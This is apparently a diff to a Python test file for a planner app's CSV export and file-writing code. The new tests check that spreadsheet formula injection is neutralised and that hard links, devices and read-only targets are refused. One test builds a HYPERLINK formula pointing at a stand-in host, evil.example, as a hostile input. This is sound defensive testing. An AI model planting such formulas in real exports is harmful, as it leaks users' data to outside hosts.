@@ -3,8 +3,10 @@ cannot be written or read."""
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 import errno
+import io
 import json
 import os
 from pathlib import Path
@@ -16,6 +18,7 @@ from planner.domain.profile import Profile, TickedSkill
 from planner.storage import data_pack, exports
 from planner.storage.data_pack import PACK_FILE, DataPackStore, problems_text, read_dataset_file
 from planner.storage.dataset_file import MAX_DATASET_BYTES, DatasetError
+from planner.storage.export_target import export_refusal
 from planner.storage.exports import (
     ExportError,
     encode_csv,
@@ -59,7 +62,28 @@ def test_an_export_onto_a_folder_or_into_a_missing_one_is_explained(tmp_path: Pa
 
 def test_csv_has_a_header_and_one_line_a_row_in_utf8() -> None:
     data = encode_csv(["Year", "Level"], [[2026, "Entry level"], [2027, "Mid, “senior” & co"]])
-    assert data == 'Year,Level\n2026,Entry level\n2027,"Mid, “senior” & co"\n'.encode()
+    assert data == 'Year,Level\r\n2026,Entry level\r\n2027,"Mid, “senior” & co"\r\n'.encode()
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_text_cell_a_spreadsheet_would_take_for_a_formula_gets_an_apostrophe(start: str) -> None:
+    text = f'{start}HYPERLINK("http://evil.example/?x=1","Entry level")'
+    data = encode_csv([f"{start}header", "Plain"], [[text, "Entry level"]])
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
+    assert rows == [[f"'{start}header", "Plain"], ["'" + text, "Entry level"]]
+
+
+def test_numbers_stay_numbers_and_text_that_looks_like_one_is_neutralised() -> None:
+    data = encode_csv(
+        ["Year", "Change"], [[2026, -1200], [2027, -0.5], [2028, "-1200 foo"], [2029, "-1200"], [2030, True]]
+    )
+    assert data.decode("utf-8").splitlines()[1:] == [
+        "2026,-1200",
+        "2027,-0.5",
+        "2028,'-1200 foo",
+        "2029,'-1200",
+        "2030,True",
+    ]
 
 
 def test_an_exported_profile_imports_back_the_same(tmp_path: Path) -> None:
@@ -174,3 +198,20 @@ def test_a_removed_pack_is_named_by_the_time_and_numbered_within_a_second(data_d
         "salary-data.json.removed-20250314-092653-3",
     ]
     assert store.data_dir == data_dir
+
+
+def test_a_device_a_hard_link_to_the_profile_and_a_read_only_file_are_refused(tmp_path: Path, data_dir: Path) -> None:
+    assert "a device" in str(export_refusal(Path(os.devnull), data_dir))
+    (data_dir / "profile.json").write_bytes(b"{}")
+    hard = tmp_path / "looks-harmless.json"
+    os.link(data_dir / "profile.json", hard)
+    assert "one of the app's own files" in str(export_refusal(hard, data_dir))
+    with pytest.raises(ExportError, match="one of the app's own files"):
+        write_export(hard, b"x", replace=True, data_dir=data_dir)
+    assert (data_dir / "profile.json").read_bytes() == b"{}"
+    new = tmp_path / "new.csv"
+    assert export_refusal(new, data_dir) is None
+    assert export_refusal(data_dir / "my-export.csv", data_dir) is None  # other names in the data folder are fine
+    new.write_bytes(b"")
+    new.chmod(0o400)
+    assert "read-only" in str(export_refusal(new, data_dir))
